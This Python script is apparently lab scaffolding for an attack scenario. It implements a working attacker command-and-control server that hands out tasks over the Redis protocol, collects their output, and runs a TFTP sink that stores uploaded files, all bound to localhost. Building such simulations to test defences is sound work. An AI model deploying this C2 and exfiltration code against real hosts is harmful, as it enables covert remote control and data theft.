#!/usr/bin/env python3
"""The attacker's servers of scenario-hivelog-rpcsend, run as labremote:
a C2 that speaks the Redis protocol (RESP2) on 127.0.0.1:6380 and a TFTP
write sink on 127.0.0.1:6969 (UDP).

RESP: AUTH/PING/CLIENT/QUIT answered; "BRPOP <key> <timeout>" returns the
next queued task (files DIR/tasks/NNN, in order) or a null array after the
timeout; "LPUSH <key> <value>" stores the n-th output as DIR/out/NNN.
TFTP: a write request (WRQ, octet) is stored as DIR/tftp/<name> (ACK of
block 0 without options: the client falls back to 512-byte blocks).
Every connection and command is logged to DIR/c2.log. Stops after
--max-seconds.
  hivelog-c2.py DIR [--resp-port 6380] [--tftp-port 6969] [--max-seconds 1500]
"""
import argparse, os, socket, socketserver, struct, sys, threading, time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("dir")
    ap.add_argument("--resp-port", type=int, default=6380)
    ap.add_argument("--tftp-port", type=int, default=6969)
    ap.add_argument("--max-seconds", type=int, default=1500)
    a = ap.parse_args()
    tasks, outd, tftpd = (os.path.join(a.dir, x) for x in ("tasks", "out", "tftp"))
    for d in (tasks, outd, tftpd):
        os.makedirs(d, exist_ok=True)
    logf = open(os.path.join(a.dir, "c2.log"), "a", buffering=1)
    lock = threading.Lock()
    served = set()

    def log(msg):
        with lock:
            logf.write("%s %s\n" % (time.strftime("%H:%M:%S", time.gmtime()), msg))

    def next_task():
        with lock:
            for n in sorted(os.listdir(tasks)):
                if n.startswith(".") or n in served:
                    continue
                served.add(n)
                return n, open(os.path.join(tasks, n), "rb").read().rstrip(b"\n")
        return None, None

    class H(socketserver.StreamRequestHandler):
        def read_cmd(self):
            line = self.rfile.readline()
            if not line:
                return None
            if not line.startswith(b"*"):
                return line.strip().split()
            n, args = int(line[1:]), []
            for _ in range(n):
                ln = int(self.rfile.readline()[1:])
                args.append(self.rfile.read(ln + 2)[:ln])
            return args

        def bulk(self, b):
            self.wfile.write(b"$%d\r\n%s\r\n" % (len(b), b))

        def handle(self):
            log("connection from %s:%d" % self.client_address)
            while True:
                c = self.read_cmd()
                if c is None:
                    log("closed %s:%d" % self.client_address)
                    return
                op = c[0].upper() if c else b""
                if op == b"BRPOP":
                    log("BRPOP %s %s" % (c[1].decode(errors="replace"), c[-1].decode()))
                    end = time.time() + float(c[-1])
                    n = None
                    while time.time() < end:
                        n, t = next_task()
                        if n:
                            break
                        time.sleep(0.3)
                    if n:
                        log("task %s handed out (%d bytes)" % (n, len(t)))
                        self.wfile.write(b"*2\r\n")
                        self.bulk(c[1]); self.bulk(t)
                    else:
                        self.wfile.write(b"*-1\r\n")
                elif op == b"LPUSH":
                    with lock:
                        k = len(os.listdir(outd)) + 1
                    n = "%03d" % k
                    # the output of the task handed out last
                    with lock:
                        n = sorted(served)[-1] if served else n
                    open(os.path.join(outd, n), "wb").write(c[2])
                    log("LPUSH %s: output of task %s (%d bytes)" % (c[1].decode(errors="replace"), n, len(c[2])))
                    self.wfile.write(b":1\r\n")
                elif op == b"QUIT":
                    log("QUIT")
                    self.wfile.write(b"+OK\r\n")
                    return
                elif op == b"PING":
                    self.wfile.write(b"+PONG\r\n")
                else:
                    log("%s %s" % (op.decode(errors="replace"), " ".join(x.decode(errors="replace") for x in c[1:])))
                    self.wfile.write(b"+OK\r\n")

    class S(socketserver.ThreadingTCPServer):
        allow_reuse_address = True
        daemon_threads = True

    srv = S(("127.0.0.1", a.resp_port), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()

    def tftp():
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind(("127.0.0.1", a.tftp_port))
        while True:
            pkt, peer = u.recvfrom(65536)
            if struct.unpack("!H", pkt[:2])[0] != 2:
                continue
            parts = pkt[2:].split(b"\0")
            name = os.path.basename(parts[0].decode(errors="replace")) or "unnamed"
            log("TFTP WRQ %s from %s:%d (mode %s, options %s)" % (name, peer[0], peer[1], parts[1].decode(), parts[2:-1]))
            t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            t.bind(("127.0.0.1", 0))
            t.settimeout(5)
            t.sendto(struct.pack("!HH", 4, 0), peer)
            data, want = bytearray(), 1
            while True:
                try:
                    p, _ = t.recvfrom(65536)
                except socket.timeout:
                    log("TFTP %s: timeout after %d bytes" % (name, len(data)))
                    break
                op, blk = struct.unpack("!HH", p[:4])
                if op != 3:
                    continue
                if blk == want:
                    data += p[4:]
                    want = (want + 1) & 0xFFFF
                t.sendto(struct.pack("!HH", 4, blk), peer)
                if len(p) - 4 < 512:
                    break
            t.close()
            open(os.path.join(tftpd, name), "wb").write(data)
            log("TFTP %s: %d bytes stored" % (name, len(data)))

    threading.Thread(target=tftp, daemon=True).start()
    log("listening: RESP 127.0.0.1:%d, TFTP 127.0.0.1:%d/udp" % (a.resp_port, a.tftp_port))
    time.sleep(a.max_seconds)
    log("max seconds reached, stopping")


if __name__ == "__main__":
    main()
